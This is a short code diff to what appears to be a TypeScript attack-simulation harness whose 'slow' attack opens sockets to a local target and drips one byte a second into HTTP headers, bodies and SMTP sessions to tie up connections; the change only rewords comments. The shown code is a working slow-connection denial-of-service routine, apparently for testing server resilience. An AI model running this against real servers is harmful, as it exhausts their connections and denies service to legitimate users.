@@ -7,7 +7,7 @@ const DRIP_MS = 1000;
 const HOLD_MS = 60_000;
 const MAIL_PER_ADDRESS = 20;
 
-/** Each begins as said, and then says a byte a second. */
+/** Each starts with `begin` and then sends one byte a second. */
 const DRIPS: Record<string, (target: Target) => { port: number; begin: string; drip: string }> = {
 	'HTTP heads': ({ port }) => ({ port, begin: 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ', drip: 'x' }),
 	'HTTP bodies': ({ port }) => ({
@@ -31,7 +31,7 @@ export const slow: Attack = async (target) => {
 			const socket = net
 				.connect({ port, host: '127.0.0.1', localAddress: ATTACKER })
 				.on('error', () => undefined);
-			// A mail server speaks first.
+			// In SMTP the server speaks first.
 			if (name.startsWith('SMTP')) socket.once('data', () => socket.write(begin));
 			else socket.write(begin);
 			return socket.resume();
